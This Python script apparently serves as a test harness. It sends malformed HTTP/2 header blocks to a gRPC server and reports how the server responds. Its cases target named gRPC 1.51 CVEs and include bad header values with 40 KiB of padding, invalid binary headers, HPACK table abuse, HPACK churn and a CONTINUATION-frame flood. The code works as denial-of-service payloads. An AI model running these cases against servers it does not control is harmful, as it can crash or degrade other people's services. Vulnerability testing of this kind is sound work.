#!/usr/bin/python3
"""Header blocks that trip gRPC 1.51's known HTTP/2 bugs, each sent on a
connection of its own to HOST:PORT (plaintext HTTP/2, prior knowledge):

  te                  `te: x`, then 40 KiB of headers (CVE-2023-1428)
  grpclb              `grpclb_client_stats: x`, then 40 KiB (CVE-2023-1428)
  scheme              `:scheme: x`, then 40 KiB (CVE-2023-1428)
  te_alone, grpclb_alone, scheme_alone
                      the same bad header in a request of normal size
  bin                 a `-bin` header that is not base64 (CVE-2023-32731/2)
  hpack_table         a dynamic table size update far above what the peer
                      allows (CVE-2023-33953's accounting)
  hpack_churn         200 requests whose 3 KiB headers each evict the last
                      from the HPACK table (CVE-2023-33953's CPU)
  continuation        one request's headers in 2,000 CONTINUATION frames that
                      never end (a CONTINUATION flood)

For each it prints one line, "CASE OUTCOME", where OUTCOME says how the
peer answered: `grpc-status=N` (a gRPC answer), `http=N` (an HTTP error
status), `reset=N` (RST_STREAM with that code), `goaway=N` (the connection
closed with GOAWAY) or `closed` (the connection dropped without a word).
It exits 0 once every case has an outcome; a case that gets none within
5 s prints `timeout`.

Usage: malformed_headers.py HOST PORT METHOD [CASE...]
"""
import socket
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import hyperframe.frame

# A request message of zero bytes, gRPC-framed (no compression, length 0).
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"
FILLER = [(f"x-filler-{i}", "f" * 1000) for i in range(40)]


def connect(host, port):
    sock = socket.create_connection((host, port), timeout=5)
    config = h2.config.H2Configuration(
        client_side=True, validate_outbound_headers=False,
        normalize_outbound_headers=False, validate_inbound_headers=False)
    conn = h2.connection.H2Connection(config)
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def outcome_of(sock, conn, stream, deadline):
    """Reads until `stream` ends or the connection does; the outcome."""
    status = None
    while time.monotonic() < deadline:
        try:
            sock.settimeout(max(0.01, deadline - time.monotonic()))
            data = sock.recv(65536)
        except socket.timeout:
            break
        except OSError:
            return "closed"
        if not data:
            return "closed"
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            return "closed"
        for event in events:
            if isinstance(event, (h2.events.ResponseReceived, h2.events.TrailersReceived)):
                if event.stream_id != stream:
                    continue
                headers = {k.decode() if isinstance(k, bytes) else k:
                           v.decode() if isinstance(v, bytes) else v
                           for k, v in event.headers}
                if "grpc-status" in headers:
                    return f"grpc-status={headers['grpc-status']}"
                if headers.get(":status", "200") != "200":
                    status = f"http={headers[':status']}"
            elif isinstance(event, h2.events.StreamReset) and event.stream_id == stream:
                return status or f"reset={int(event.error_code)}"
            elif isinstance(event, h2.events.ConnectionTerminated):
                return status or f"goaway={int(event.error_code)}"
            elif isinstance(event, h2.events.StreamEnded) and event.stream_id == stream:
                return status or "ended"
        pending = conn.data_to_send()
        if pending:
            try:
                sock.sendall(pending)
            except OSError:
                return "closed"
    return status or "timeout"


def base_headers(host, port, method):
    return [(":method", "POST"), (":scheme", "http"), (":path", method),
            (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
            ("te", "trailers")]


def send_request(sock, conn, headers):
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, headers)
    conn.send_data(stream, EMPTY_MESSAGE, end_stream=True)
    sock.sendall(conn.data_to_send())
    return stream


def replaced(headers, name, value):
    return [(k, value if k == name else v) for k, v in headers]


def one_request(host, port, headers):
    """Sends one request with `headers` on a connection of its own; the outcome."""
    sock, conn = connect(host, port)
    return outcome_of(sock, conn, send_request(sock, conn, headers), time.monotonic() + 5)


def bad_header_case(name, value, filler):
    """A case: the request with header `name` set to `value` (added when the
    request has none), followed by 40 KiB of headers when `filler`."""
    def case(host, port, method):
        headers = base_headers(host, port, method)
        if any(k == name for k, _ in headers):
            headers = replaced(headers, name, value)
        else:
            headers = headers + [(name, value)]
        return one_request(host, port, headers + (FILLER if filler else []))
    return case


def case_hpack_table(host, port, method):
    sock, conn = connect(host, port)
    # A dynamic table size update (RFC 7541 6.3) to 2^28, far above the
    # 4 KiB every peer starts with, ahead of a valid header block.
    conn.encoder.header_table_size = 1 << 28
    headers = base_headers(host, port, method)
    return outcome_of(sock, conn, send_request(sock, conn, headers), time.monotonic() + 5)


def case_hpack_churn(host, port, method):
    sock, conn = connect(host, port)
    last = None
    for i in range(200):
        headers = base_headers(host, port, method) + [(f"x-churn-{i}", "c" * 3000)]
        try:
            last = send_request(sock, conn, headers)
        except (h2.exceptions.ProtocolError, OSError):
            break
        # Keep within the peer's concurrent streams: read what came back.
        sock.settimeout(0.001)
        try:
            data = sock.recv(65536)
            if not data:
                return "closed"
            conn.receive_data(data)
        except (socket.timeout, BlockingIOError):
            pass
        except (OSError, h2.exceptions.ProtocolError):
            return "closed"
    if last is None:
        return "closed"
    return outcome_of(sock, conn, last, time.monotonic() + 5)


def case_continuation(host, port, method):
    sock, conn = connect(host, port)
    stream = conn.get_next_available_stream_id()
    block = conn.encoder.encode(base_headers(host, port, method))
    headers = hyperframe.frame.HeadersFrame(stream)
    headers.data = block
    headers.flags.add("END_STREAM")
    try:
        sock.sendall(headers.serialize())
        filler = conn.encoder.encode([("x-filler", "f" * 100)])
        for _ in range(2000):
            frame = hyperframe.frame.ContinuationFrame(stream)
            frame.data = filler
            sock.sendall(frame.serialize())
    except OSError:
        return "closed"
    return outcome_of(sock, conn, stream, time.monotonic() + 5)


CASES = {
    "te": bad_header_case("te", "x", filler=True),
    "grpclb": bad_header_case("grpclb_client_stats", "x", filler=True),
    "scheme": bad_header_case(":scheme", "x", filler=True),
    "te_alone": bad_header_case("te", "x", filler=False),
    "grpclb_alone": bad_header_case("grpclb_client_stats", "x", filler=False),
    "scheme_alone": bad_header_case(":scheme", "x", filler=False),
    "bin": bad_header_case("x-trace-bin", "!!! not base64 @@@", filler=False),
    "hpack_table": case_hpack_table,
    "hpack_churn": case_hpack_churn,
    "continuation": case_continuation,
}


def main():
    host, port, method = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    names = sys.argv[4:] or list(CASES)
    for name in names:
        try:
            outcome = CASES[name](host, port, method)
        except OSError as error:
            outcome = f"closed ({error.__class__.__name__})"
        print(f"{name} {outcome}", flush=True)


if __name__ == "__main__":
    main()
